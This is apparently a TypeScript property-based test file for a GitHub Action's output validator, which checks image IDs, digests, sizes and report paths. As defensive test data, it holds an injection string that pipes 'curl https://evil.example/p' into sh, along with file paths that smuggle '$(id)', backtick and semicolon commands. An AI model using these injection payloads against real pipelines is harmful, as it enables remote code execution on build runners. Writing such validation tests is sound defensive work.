import fc from 'fast-check';
import { reportFrom } from '../../helpers/report.js';
import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { actionOutputs, checkOutputs, OUTPUT_FORMS } from '../../../src/publish/outputs.js';
import { fixtureReport } from '../../helpers/report-fixture.js';
import { reportParts } from '../../helpers/report-arbitraries.js';

const ID = `sha256:${'a1'.repeat(32)}`;
const DIGEST = `sha256:${'0f'.repeat(32)}`;
const INJECTION = 'sha256:x"; curl https://evil.example/p | sh; echo "';

describe('actionOutputs', () => {
  test('sizes, delta against the baseline, verdict', () => {
    const r = fixtureReport();
    expect(actionOutputs(r, '/tmp/r.json')).toEqual({
      verdict: 'fail', size: '66200000', 'compressed-size': '33100000', 'size-delta': '30100000',
      'cache-hit-ratio': '', 'report-path': '/tmp/r.json', 'image-id': '', digest: '', skipped: 'false',
    });
  });

  test('no baseline → empty delta; build record → ratio, id, digest, skipped', () => {
    const r = fixtureReport();
    r.baseline = null;
    r.diff = null;
    r.build = {
      stages: [], cacheSources: [], totalSteps: 3, cachedSteps: 2, cacheHitRatio: 2 / 3, seconds: 4, mode: 'inline',
      imageId: ID, digest: DIGEST, warnings: [], upToDate: { key: 'k', ref: 'r' },
    };
    const out = actionOutputs(r, 'p');
    expect(out).toMatchObject({ 'size-delta': '', 'cache-hit-ratio': '0.667', 'image-id': ID, digest: DIGEST, skipped: 'true' });
    expect(checkOutputs(out)).toEqual({ outputs: out, warnings: [] });
  });
});

describe('checkOutputs: every value in its exact form, or empty with a warning', () => {
  test('the forms cover exactly the outputs action.yml declares', () => {
    const action = parse(readFileSync(new URL('../../../action.yml', import.meta.url), 'utf8')) as { outputs: Record<string, unknown> };
    expect(Object.keys(OUTPUT_FORMS).sort()).toEqual(Object.keys(action.outputs).sort());
  });

  test('a script in the digest and image id from a hostile artifact is left out, and said so', () => {
    const r = fixtureReport();
    r.build = {
      stages: [], cacheSources: [], totalSteps: 1, cachedSteps: 1, cacheHitRatio: 1, seconds: 1, mode: 'inline',
      imageId: INJECTION, digest: INJECTION, warnings: [],
    };
    const { outputs, warnings } = checkOutputs(actionOutputs(r, '/home/runner/work/_temp/layerwise-report.json'));
    expect(outputs).toMatchObject({ 'image-id': '', digest: '', verdict: 'fail', 'report-path': '/home/runner/work/_temp/layerwise-report.json' });
    expect(warnings).toEqual([
      'layerwise: output image-id left empty: "sha256:x\\"; curl https://evil.example/p | sh; echo \\"" is not sha256:<64 hex digits>',
      'layerwise: output digest left empty: "sha256:x\\"; curl https://evil.example/p | sh; echo \\"" is not sha256:<64 hex digits>',
    ]);
  });

  test.each([
    ['verdict', 'pass', true], ['verdict', 'PASS', false], ['verdict', 'pass\nfail', false],
    ['size', '0', true], ['size', '1000000000000000', true], ['size', '1.5', false], ['size', '1e21', false], ['size', '-3', false], ['size', '12\n', false],
    ['size-delta', '-1200', true], ['size-delta', '--1', false],
    ['cache-hit-ratio', '0.667', true], ['cache-hit-ratio', '1', true], ['cache-hit-ratio', '0.6667', false], ['cache-hit-ratio', '2', false],
    ['report-path', 'D:\\a\\_temp\\layerwise-report.json', true], ['report-path', 'layerwise-report/layerwise report.json', true],
    ['report-path', '/tmp/données/r.json', true], ['report-path', '/srv/runner (2)/_temp/r#1.json', true],
    ['report-path', '/tmp/$(id).json', false], ['report-path', '/tmp/a`id`.json', false], ['report-path', '/tmp/a;id', false], ['report-path', '/tmp/a\tb', false],
    ['report-path', "/tmp/a'b.json", false], ['report-path', '/tmp/a\nb.json', false],
    ['image-id', ID, true], ['image-id', ID.toUpperCase(), false], ['image-id', `${ID}0`, false], ['digest', `sha512:${'0'.repeat(128)}`, false],
    ['skipped', 'true', true], ['skipped', 'yes', false],
  ])('%s %j accepted: %s', (name, value, ok) => {
    const { outputs, warnings } = checkOutputs({ [name]: value });
    expect(outputs[name]).toBe(ok ? value : '');
    expect(warnings).toHaveLength(ok ? 0 : 1);
  });

  test('an output action.yml does not declare is not set', () => {
    expect(checkOutputs({ 'digest\nother': DIGEST, verdict: 'pass' })).toEqual({
      outputs: { verdict: 'pass' }, warnings: ['layerwise: output "digest\\nother" is not one action.yml declares; not set'],
    });
  });

  test('property: whatever the value, what is set has no line break, no file-command delimiter, and is the value or empty', () => {
    const value = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(DIGEST, '12', '0.5', 'pass', 'true').chain((ok) => fc.tuple(fc.string(), fc.string()).map(([a, b]) => `${a}${ok}${b}`)),
      fc.uuid().map((u) => `ghadelimiter_${u}`),
      fc.constantFrom('\n', '\r', '\u2028', 'ghadelimiter_').map((s) => `${DIGEST}${s}`),
    );
    fc.assert(
      fc.property(fc.constantFrom(...(Object.keys(OUTPUT_FORMS) as (keyof typeof OUTPUT_FORMS)[])), value, (name, v) => {
        const set = checkOutputs({ [name]: v }).outputs[name];
        expect([v, '']).toContain(set);
        expect(set).not.toMatch(/[\r\n\u2028\u2029]|ghadelimiter_|["'`$;|&<>]/);
      }),
      { numRuns: 2000 },
    );
  });

  test('property: the outputs of every report build mode makes pass unchanged', () => {
    fc.assert(
      fc.property(reportParts, (parts) => {
        const out = actionOutputs(reportFrom(parts), '/home/runner/work/_temp/layerwise-report.json');
        expect(checkOutputs(out)).toEqual({ outputs: out, warnings: [] });
      }),
      { numRuns: 25 },
    );
  });
});
